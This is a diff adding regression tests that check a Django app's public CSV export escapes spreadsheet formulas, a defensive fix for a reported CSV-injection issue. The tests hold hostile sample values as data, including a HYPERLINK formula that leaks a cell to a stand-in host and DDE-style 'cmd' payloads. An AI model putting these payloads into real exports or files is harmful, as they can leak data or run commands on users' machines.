@@ -323,3 +323,28 @@ def test_public_pdf_is_rendered_once_per_input_and_limited_per_client(
     other = client.get(url, REMOTE_ADDR="192.0.2.7")
     assert other.status_code == 200
     cache.clear()
+
+
+def test_public_csv_never_hands_a_spreadsheet_a_formula(client, world, stories):
+    """Issue #15: a domain named ``=HYPERLINK(...)`` was written as is into the public CSV."""
+    import csv
+    import io
+
+    from zorgzaam.stories.models import Domain
+
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    Domain.objects.filter(municipality=world.municipality).update(name=evil)
+    response = client.get(f"/report/public/{world.municipality.slug}/csv/?period={PERIOD}")
+    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
+    assert "'" + evil in cells
+    assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith(("+", "-")) and not c.lstrip("+-").isdigit()]
+
+
+def test_csv_cell_keeps_numbers_and_phones():
+    from zorgzaam.common.csvsafe import csv_cell
+
+    assert csv_cell("-3") == "-3" and csv_cell("+31 6 12345678") == "+31 6 12345678"
+    assert csv_cell(-0.5) == -0.5 and csv_cell("Noorddorp") == "Noorddorp"
+    for bad in ("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x", "\t=1"):
+        assert csv_cell(bad) == "'" + bad
